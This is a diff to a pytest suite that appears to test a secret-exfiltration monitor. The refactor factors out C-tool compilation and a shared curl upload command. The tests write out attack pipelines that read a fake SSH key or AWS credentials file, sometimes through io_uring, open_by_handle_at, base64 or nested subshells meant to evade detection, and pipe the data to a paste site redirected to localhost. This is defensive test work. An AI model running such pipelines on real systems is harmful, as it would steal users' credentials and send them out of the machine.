@@ -19,6 +19,7 @@ from test_scenarios import alert_key, run_attack, wait_for_evidence
 WAIT_S = 20.0
 PASTE = "paste.ee"
 UPLOAD = f"curl -sk --resolve {PASTE}:8443:127.0.0.1 -T {{}} https://{PASTE}:8443/"
+PIPE_UPLOAD = f"curl -sk --resolve {PASTE}:8443:127.0.0.1 --data-binary @- https://{PASTE}:8443/"
 
 
 def upload_scenario(name, shell, **extra):
@@ -177,21 +178,14 @@ def test_path_deeper_than_the_walk_is_not_taken_for_an_ignored_prefix(monitor, s
 
 
 @pytest.fixture(scope="module")
-def handle_open(tmp_path_factory):
-    source = paths.TOOLS_DIR / "handle_open.c"
-    binary = tmp_path_factory.mktemp("handle_open") / "handle_open"
-    done = subprocess.run(["gcc", "-O2", "-Wall", "-o", str(binary), str(source)],
-                          capture_output=True, text=True, timeout=120)
-    if done.returncode != 0:
-        pytest.fail(f"cannot compile {source}:\n{done.stderr[-3000:]}", pytrace=False)
-    return binary
+def handle_open(c_tool):
+    return c_tool("handle_open")
 
 
 def test_open_by_handle_at(monitor, standin, fake_home, tmp_path, handle_open):
     # No path on the open at all: the record names the file from the opened file itself.
     key = key_of(fake_home)
-    shell = (f"{handle_open} {key} | curl -sk --resolve {PASTE}:8443:127.0.0.1 "
-             f"--data-binary @- https://{PASTE}:8443/")
+    shell = f"{handle_open} {key} | {PIPE_UPLOAD}"
     attack(monitor, standin, fake_home, tmp_path, "open-by-handle", shell)
     records = monitor.records()
     found = opened(records, key, "handle_open")
@@ -255,15 +249,8 @@ def test_library_reached_through_dotdot_stays_unreported(monitor, tmp_path):
 # --- Class: every way of reading counts (io_uring) --------------------------------------------
 
 @pytest.fixture(scope="module")
-def uring_read(tmp_path_factory):
-    source = paths.TOOLS_DIR / "uring_read.c"
-    binary = tmp_path_factory.mktemp("uring_read") / "uring_read"
-    done = subprocess.run(["gcc", "-O2", "-Wall", "-o", str(binary), str(source), "-luring"],
-                          capture_output=True, text=True, timeout=120)
-    if done.returncode != 0:
-        pytest.fail(f"cannot compile {source} (liburing-dev comes with scripts/setup):\n"
-                    f"{done.stderr[-3000:]}", pytrace=False)
-    return binary
+def uring_read(c_tool):
+    return c_tool("uring_read", "-luring")
 
 
 def test_io_uring_open_and_reads(monitor, standin, fake_home, tmp_path, uring_read):
@@ -272,8 +259,7 @@ def test_io_uring_open_and_reads(monitor, standin, fake_home, tmp_path, uring_re
     # bytes go on to a paste site through a pipe.
     key = key_of(fake_home)
     aws = fake_home.files[".aws/credentials"]
-    shell = (f"{uring_read} {key} {aws} | curl -sk --resolve {PASTE}:8443:127.0.0.1 "
-             f"--data-binary @- https://{PASTE}:8443/")
+    shell = f"{uring_read} {key} {aws} | {PIPE_UPLOAD}"
     attack(monitor, standin, fake_home, tmp_path, "io-uring", shell)
     records = monitor.records()
     for path in (key, aws):
@@ -356,8 +342,7 @@ def test_command_substitution_at_depth_three(monitor, standin, fake_home, tmp_pa
     # The key's base64 lives only in a shell variable, two subshells and a substitution deep,
     # and reaches curl on stdin through a here-string.
     key = key_of(fake_home)
-    curl = f"curl -sk --resolve {PASTE}:8443:127.0.0.1 --data-binary @- https://{PASTE}:8443/"
-    shell = f'( ( x=$( ( cat {key} | base64 -w0 ) ); {curl} <<< "$x" ) )'
+    shell = f'( ( x=$( ( cat {key} | base64 -w0 ) ); {PIPE_UPLOAD} <<< "$x" ) )'
     dataflow_attack(monitor, standin, fake_home, tmp_path, "substitution-depth-3", shell)
     assert_no_secret(monitor, key)
 
@@ -431,26 +416,28 @@ def test_report_written_before_the_key_read_is_silent(monitor, standin, fake_hom
                f"{script} && " + UPLOAD.format(report))
 
 
+def banner_then_key_into_paste(key, then):
+    """A script that writes a banner into a pipe to curl, reads `key` (as `d`) 2.5 s later, then
+    runs the Python statement `then`."""
+    script = ("python3 -c 'import sys,time,hashlib,base64; sys.stdout.write(\"starting build 1234\\n\"); "
+              "sys.stdout.flush(); time.sleep(2.5); d=open(sys.argv[1],\"rb\").read(); "
+              f"{then}; time.sleep(0.5)' {key}")
+    return f"{script} | {PIPE_UPLOAD}"
+
+
 def test_pipe_written_before_the_key_read_is_silent(monitor, standin, fake_home, tmp_path):
     # A pipe's writes carry what the writer held at each write: a banner written two seconds
     # before the key read holds nothing. Its attack twin writes the key after.
     key = key_of(fake_home)
-    curl = f"curl -sk --resolve {PASTE}:8443:127.0.0.1 --data-binary @- https://{PASTE}:8443/"
-    script = ("python3 -c 'import sys,time,hashlib; sys.stdout.write(\"starting build 1234\\n\"); "
-              "sys.stdout.flush(); time.sleep(2.5); d=open(sys.argv[1],\"rb\").read(); "
-              "hashlib.sha256(d).hexdigest(); time.sleep(0.5)' "
-              f"{key}")
-    silent_run(monitor, standin, fake_home, tmp_path, "pipe-before-key", f"{script} | {curl}")
+    silent_run(monitor, standin, fake_home, tmp_path, "pipe-before-key",
+               banner_then_key_into_paste(key, "hashlib.sha256(d).hexdigest()"))
 
 
 def test_pipe_written_after_the_key_read(monitor, standin, fake_home, tmp_path):
     key = key_of(fake_home)
-    curl = f"curl -sk --resolve {PASTE}:8443:127.0.0.1 --data-binary @- https://{PASTE}:8443/"
-    script = ("python3 -c 'import sys,time,base64; sys.stdout.write(\"starting build 1234\\n\"); "
-              "sys.stdout.flush(); time.sleep(2.5); d=open(sys.argv[1],\"rb\").read(); "
-              "sys.stdout.write(base64.b64encode(d).decode()); sys.stdout.flush(); time.sleep(0.5)' "
-              f"{key}")
-    dataflow_attack(monitor, standin, fake_home, tmp_path, "pipe-after-key", f"{script} | {curl}")
+    dataflow_attack(monitor, standin, fake_home, tmp_path, "pipe-after-key",
+                    banner_then_key_into_paste(key, "sys.stdout.write(base64.b64encode(d).decode()); "
+                                                    "sys.stdout.flush()"))
     assert_no_secret(monitor, key)
 
 
@@ -1251,15 +1238,8 @@ def test_file_descriptor_of_a_harmless_file_passed_by_scm_rights_is_silent(monit
 # --- Class: io_uring fixed files, direct descriptors and zero-copy sends -----------------------
 
 @pytest.fixture(scope="module")
-def uring_fixed(tmp_path_factory):
-    source = paths.TOOLS_DIR / "uring_fixed.c"
-    binary = tmp_path_factory.mktemp("uring_fixed") / "uring_fixed"
-    done = subprocess.run(["gcc", "-O2", "-Wall", "-o", str(binary), str(source), "-luring"],
-                          capture_output=True, text=True, timeout=120)
-    if done.returncode != 0:
-        pytest.fail(f"cannot compile {source} (liburing-dev comes with scripts/setup):\n"
-                    f"{done.stderr[-3000:]}", pytrace=False)
-    return binary
+def uring_fixed(c_tool):
+    return c_tool("uring_fixed", "-luring")
 
 
 def uring_fixed_scenario(binary, first, second, expect):
